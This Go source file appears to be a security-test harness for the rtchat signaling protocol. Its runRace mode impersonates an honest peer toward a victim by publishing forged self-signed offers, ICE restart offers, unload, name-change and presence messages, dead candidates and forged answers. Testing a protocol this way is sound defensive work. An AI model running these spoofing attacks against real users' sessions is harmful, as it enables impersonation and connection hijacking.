package main

import (
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"strconv"
	"sync/atomic"
	"time"

	"github.com/rtchat/rtchat/keys"
)

// Signed signaling as docs/rtchat-protocol.md ("Signed signaling") describes it: an attacker signs
// with its own key, which is all anyone can do; what it exploits is what the receiver does
// with an offer that verifies against the key it carries.

// signalSig is the `rtchat` member of an offer's or answer's data.
type signalSig struct {
	V          int    `json:"v"`
	TS         int64  `json:"ts"`
	Nonce      string `json:"nonce"`
	OfferNonce string `json:"offerNonce,omitempty"`
	Role       string `json:"role,omitempty"`
	Pipe       string `json:"pipe,omitempty"`
	Restart    bool   `json:"restart,omitempty"`
	Sig        string `json:"sig"`
}

var b64 = base64.RawURLEncoding

// signedOffer is the data of an RTCOffer from sender to target, signed with id and sealed
// with our own sealing key to peerKey, the target's (as an rtchat peer's offers are).
// restart marks an ICE restart offer (the kind "offer restart").
func signedOffer(r *room, id *keys.Identity, sender, target, peerKey, role, sdp string, restart bool) (map[string]any, error) {
	nonce := make([]byte, 16)
	_, _ = rand.Read(nonce)
	s := signalSig{V: 3, TS: time.Now().UnixMilli(), Nonce: b64.EncodeToString(nonce), Role: role, Restart: restart}
	kind := "offer"
	if restart {
		kind = "offer restart"
	}
	if err := s.sign(id, kind, r.topic, sender, target, sdp, r.seal.pub()+"."+peerKey); err != nil {
		return nil, err
	}
	sealed, err := r.seal.seal(peerKey, r.topic, sender, target, "offer", map[string]any{"sdp": sdp, "rtchat": s})
	if err != nil {
		return nil, err
	}
	return map[string]any{
		"userInfo": userInfo{PublicKeyString: id.PublicJWK, RTChat: &rtchatInfo{V: 3, Role: role, Seal: r.sealI}},
		"offer":    map[string]any{"localDescription": sessionDesc{Type: "offer", SDP: ""}, "target": target},
		"sealed":   sealed,
	}, nil
}

// sealKeyFor waits for full's presence and returns its sealing key.
func (r *room) sealKeyFor(ctx context.Context, full string) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, 15*time.Second)
	defer cancel()
	_, info, err := r.findPeer(ctx, func(f string, info userInfo) bool { return f == full && sealKeyOf(info) != "" })
	if err != nil {
		return "", fmt.Errorf("%w: %w", errNoSealKey, err)
	}
	return sealKeyOf(info), nil
}

// race mode: the moment the honest peer -from (alice) offers to the victim (bob), before
// their connection can be verified, publish one message in alice's exact full name, per
// -kind:
//
//	selfsigned    an RTCOffer signed with our own key (and carrying it), a real pion SDP
//	unload        a bare unsigned unload
//	namechange    a nameChange {oldName: alice, newName: alice(evil)}
//	restartoffer  an ICE restart RTCOffer signed with our own key
//	presence      a connect (presence) carrying our own key
//	candidate     an RTCIceCandidate pointing at a dead UDP port of ours
//	answer        (in bob's name, to alice) an RTCAnswer to her offer's nonce, signed with
//	              our own key
//	preempt       a self-signed RTCOffer as above, sent on alice's presence, before she
//	              offers: bob answers it (nobody else is connected in her name yet), and
//	              alice sees bob's answer to an offer that is not hers
//
// for each of alice's offers, up to -n. Events: watching, fired (per offer of alice's, with
// the delay after it), summary (fired).
func runRace(ctx context.Context, args []string, ctl *control) error {
	fs := flag.NewFlagSet("race", flag.ExitOnError)
	var c common
	var from, kind string
	var n int
	fs.StringVar(&from, "from", "alice", "bare name of the honest peer")
	fs.StringVar(&kind, "kind", "selfsigned", "selfsigned or unload")
	fs.IntVar(&n, "n", 8, "offers of alice's to race")
	ctx, r, id, done, err := parseAttack(ctx, fs, &c, args)
	if err != nil {
		return err
	}
	defer done()
	// Prepared before alice offers, so that the race costs one publication.
	sdp, err := deadSDP(ctx)
	if err != nil {
		return err
	}
	answerSDP, err := deadAnswerSDP(ctx, sdp)
	if err != nil {
		return err
	}
	type seen struct {
		sender, target, role, nonce string
		at                          time.Time
	}
	offers := make(chan seen, 64)
	bob := ""
	if kind == "preempt" {
		if bob, _, err = r.findListener(ctx, c.victim); err != nil {
			return err
		}
	}
	off := r.on(func(env envelope, _ []byte) {
		if kind == "preempt" && env.Subtopic == subConnect && keys.BareName(env.Sender) == from {
			var u userInfo
			if json.Unmarshal(env.Data, &u) == nil && u.RTChat != nil && u.PublicKeyString != id.PublicJWK {
				select {
				case offers <- seen{env.Sender, bob, u.RTChat.Role, "", time.Now()}:
				default:
				}
			}
			return
		}
		if kind == "preempt" || env.Subtopic != subOffer || keys.BareName(env.Sender) != from {
			return
		}
		var d struct {
			offerData
			Sealed string `json:"sealed"`
		}
		// Alice's offers are sealed: we see that she offers to bob, not its nonce, nor
		// whether it is a restart (there is none in this test).
		if json.Unmarshal(env.Data, &d) != nil || keys.BareName(d.Offer.Target) != c.victim ||
			d.UserInfo.PublicKeyString == id.PublicJWK || d.Sealed == "" {
			return // not alice's (ours echoed back)
		}
		role := ""
		if d.UserInfo.RTChat != nil {
			role = d.UserInfo.RTChat.Role
		}
		select {
		case offers <- seen{env.Sender, d.Offer.Target, role, "", time.Now()}:
		default:
		}
	})
	defer off()
	out.emit("watching", map[string]any{"kind": kind})
	var fired atomic.Int64
	for int(fired.Load()) < n {
		var o seen
		select {
		case o = <-offers:
		case <-ctl.stopCh:
			out.emit("summary", map[string]any{"kind": kind, "fired": fired.Load()})
			return nil
		case <-ctx.Done():
			return ctx.Err()
		}
		// Whom we seal to: bob, or alice for the forged answer in bob's name.
		to := o.target
		if kind == "answer" {
			to = o.sender
		}
		peerKey, err := r.sealKeyFor(ctx, to)
		if err != nil {
			return err
		}
		switch kind {
		case "selfsigned", "preempt":
			var d map[string]any
			if d, err = signedOffer(r, id, o.sender, o.target, peerKey, o.role, varySDP(sdp), false); err == nil {
				err = r.publish(ctx, o.sender, subOffer, d)
			}
		case "unload":
			err = r.publish(ctx, o.sender, subUnload, "disconnecting")
		case "namechange":
			err = r.publish(ctx, keys.BareName(o.sender)+"(evil)", subNameChange,
				map[string]string{"oldName": o.sender, "newName": keys.BareName(o.sender) + "(evil)"})
		case "restartoffer":
			var d map[string]any
			if d, err = signedOffer(r, id, o.sender, o.target, peerKey, o.role, varySDP(sdp), true); err == nil {
				err = r.publish(ctx, o.sender, subOffer, d)
			}
		case "presence":
			err = r.publish(ctx, o.sender, subConnect, userInfo{PublicKeyString: id.PublicJWK, RTChat: &rtchatInfo{V: 3, Role: o.role, Seal: r.sealI}})
		case "candidate":
			err = r.publish(ctx, o.sender, subCandidate, map[string]any{
				"candidate": "candidate:1 1 udp 2130706431 127.0.0.1 9 typ host", "sdpMid": "0", "sdpMLineIndex": 0})
		case "answer":
			var d map[string]any
			// Alice's offer nonce is sealed: the answer names none, and is sealed under our
			// key, not bob's, so alice cannot even open it.
			if d, err = signedAnswer(r, id, o.target, o.sender, peerKey, o.nonce, "listen", varySDP(answerSDP)); err == nil {
				err = r.publish(ctx, o.target, subAnswer, d)
			}
		default:
			out.emit("error", map[string]any{"error": "unknown -kind " + kind})
			return nil
		}
		if err != nil {
			return err
		}
		fired.Add(1)
		out.emit("fired", map[string]any{"alice": o.sender, "bob": o.target, "after_ms": time.Since(o.at).Milliseconds()})
	}
	<-ctl.stopCh
	out.emit("summary", map[string]any{"kind": kind, "fired": fired.Load()})
	return nil
}

// sign signs s over the fields of docs/rtchat-protocol.md; seal is the sender's and the target's
// sealing keys joined by ".".
func (s *signalSig) sign(id *keys.Identity, kind, topic, sender, target, sdp, seal string) error {
	var msg []byte
	for _, f := range []string{"rtchat signal v3", kind, topic, sender, target, strconv.FormatInt(s.TS, 10),
		s.Nonce, s.OfferNonce, s.Role, s.Pipe, sdp, seal} {
		msg = binary.BigEndian.AppendUint32(msg, uint32(len(f)))
		msg = append(msg, f...)
	}
	sig, err := id.Sign(msg)
	if err != nil {
		return err
	}
	s.Sig = b64.EncodeToString(sig)
	return nil
}

// signedAnswer is the data of an RTCAnswer from sender to target answering the offer of
// nonce offerNonce, signed with id and sealed with our own key to peerKey (the target's).
func signedAnswer(r *room, id *keys.Identity, sender, target, peerKey, offerNonce, role, sdp string) (map[string]any, error) {
	nonce := make([]byte, 16)
	_, _ = rand.Read(nonce)
	s := signalSig{V: 3, TS: time.Now().UnixMilli(), Nonce: b64.EncodeToString(nonce), OfferNonce: offerNonce, Role: role}
	if err := s.sign(id, "answer", r.topic, sender, target, sdp, r.seal.pub()+"."+peerKey); err != nil {
		return nil, err
	}
	sealed, err := r.seal.seal(peerKey, r.topic, sender, target, "answer", map[string]any{"sdp": sdp, "rtchat": s})
	if err != nil {
		return nil, err
	}
	return map[string]any{"localDescription": sessionDesc{Type: "answer", SDP: ""}, "target": target, "sealed": sealed}, nil
}

// deadAnswerSDP is a real pion answer to offer whose PeerConnection is closed at once.
func deadAnswerSDP(ctx context.Context, offer string) (string, error) {
	p, err := newPeer("y", "x", false, nil, nil)
	if err != nil {
		return "", err
	}
	defer p.close()
	return p.createAnswer(ctx, offer)
}
